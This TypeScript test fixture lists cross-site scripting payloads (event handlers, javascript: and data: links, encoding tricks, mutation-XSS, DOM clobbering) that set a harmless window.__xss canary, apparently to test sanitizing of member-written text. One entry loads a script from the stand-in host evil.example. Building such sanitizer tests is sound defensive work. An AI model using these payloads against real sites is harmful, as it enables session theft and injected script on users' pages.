/**
 * Cross-site scripting payloads that member-written text might carry: classic HTML injection, event
 * handlers, dangerous URL schemes in markdown and HTML links, mutation-XSS shapes and encodings. Every
 * payload tries to set `window.__xss`, so a test in a real browser can tell whether any ran.
 */
const run = 'window.__xss=1';

const schemes = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	` javascript:${run}`,
	`javascript&#58;${run}`,
	`&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
	`java\tscript:${run}`,
	`java&#x09;script:${run}`,
	`vbscript:${run}`,
	`data:text/html,<script>${run}</script>`,
	`data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
	`javascript://%0a${run}`,
	`\u0001javascript:${run}`
];

const handlers = [
	'onerror',
	'onload',
	'onclick',
	'onmouseover',
	'onfocus',
	'ontoggle',
	'onanimationstart',
	'onpointerenter'
];

const elements = [
	(h: string) => `<img src=x ${h}="${run}">`,
	(h: string) => `<svg ${h}="${run}"></svg>`,
	(h: string) => `<body ${h}="${run}">`,
	(h: string) => `<details open ${h}="${run}"><summary>x</summary></details>`,
	(h: string) => `<input autofocus ${h}="${run}">`,
	(h: string) => `<a href="#" ${h}="${run}">x</a>`,
	(h: string) => `<p ${h}="${run}" tabindex=0 style="animation-name:x">x</p>`
];

const classics = [
	`<script>${run}</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>${run}</script>`,
	`<iframe src="javascript:${run}"></iframe>`,
	`<iframe srcdoc="<script>${run}</script>"></iframe>`,
	`<object data="javascript:${run}"></object>`,
	`<embed src="javascript:${run}">`,
	`<base href="javascript:${run}//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
	`<link rel=stylesheet href="javascript:${run}">`,
	`<style>@import 'javascript:${run}';</style>`,
	`<form action="javascript:${run}"><button>go</button></form>`,
	`<button formaction="javascript:${run}">go</button>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
	`<svg><style><img src=x onerror="${run}"></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<svg><a xlink:href="javascript:${run}"><text x=20 y=20>x</text></a></svg>`,
	`<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
	`<svg><script>${run}</script></svg>`,
	`<img src="x" onerror="${run}"`,
	`<img/src="x"/onerror="${run}">`,
	`<img src=\`x\` onerror=\`${run}\`>`,
	`"><script>${run}</script>`,
	`'><img src=x onerror=${run}>`,
	`<template><script>${run}</script></template>`,
	`<video><source onerror="${run}"></video>`,
	`<audio src=x onerror="${run}">`,
	`<marquee onstart="${run}">x</marquee>`,
	`<isindex type=image src=1 onerror=${run}>`,
	`<div style="background:url(javascript:${run})">x</div>`,
	`<a href="javas&#99;ript:${run}">x</a>`,
	`<a href="&#x6A;avascript:${run}">x</a>`,
	`<a href="  javascript:${run}">x</a>`,
	`<a href=javascript&colon;${run}>x</a>`,
	`<xss id=x tabindex=1 onfocus=${run}></xss>`,
	`<select autofocus onfocus=${run}>`,
	`<textarea autofocus onfocus=${run}>`,
	`<keygen autofocus onfocus=${run}>`,
	`<frameset onload=${run}>`,
	`<table background="javascript:${run}">`,
	`<!--<img src="--><img src=x onerror=${run}//">`,
	`<![CDATA[<script>${run}</script>]]>`,
	`<a id="__proto__" name="innerHTML">x</a>`,
	`<form id="test"><input name="attributes"></form>`,
	`<img name="getElementById" src=x>`,
	`\`<script>${run}</script>\``,
	`    <script>${run}</script>`
];

export const XSS_PAYLOADS: string[] = [
	...classics,
	...schemes.map((url) => `[click me](${url})`),
	...schemes.map((url) => `<a href="${url}">click</a>`),
	...schemes.map((url) => `![img](${url})`),
	...schemes.map((url) => `<${url}>`),
	...schemes.map((url) => `[ref][1]\n\n[1]: ${url}`),
	...handlers.flatMap((h) => elements.map((make) => make(h)))
];
